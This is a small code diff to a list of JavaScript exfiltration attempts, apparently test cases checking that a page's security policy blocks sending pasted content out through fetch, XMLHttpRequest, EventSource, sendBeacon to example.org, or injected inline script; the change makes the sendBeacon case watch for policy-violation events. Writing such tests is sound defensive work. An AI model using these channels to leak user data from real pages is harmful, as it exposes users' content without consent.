@@ -11,7 +11,7 @@ const WAYS_OUT = [
   'fetch("/x?paste")',
   'new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = fail; r.open("GET", "/x"); r.send(); })',
   'new Promise((done, fail) => { const s = new EventSource("/x"); s.onopen = done; s.onerror = fail; })',
-  'navigator.sendBeacon("https://example.org/x", "paste") ? Promise.resolve() : Promise.reject(new Error("refused"))',
+  'new Promise((done, fail) => { addEventListener("securitypolicyviolation", fail, { once: true }); setTimeout(done, 5000); navigator.sendBeacon("https://example.org/x", "paste"); })',
   'new Promise((done, fail) => { const s = document.createElement("script"); s.textContent = "window.leaked = 1"; document.body.append(s); window.leaked ? done() : fail(); })',
 ];
 
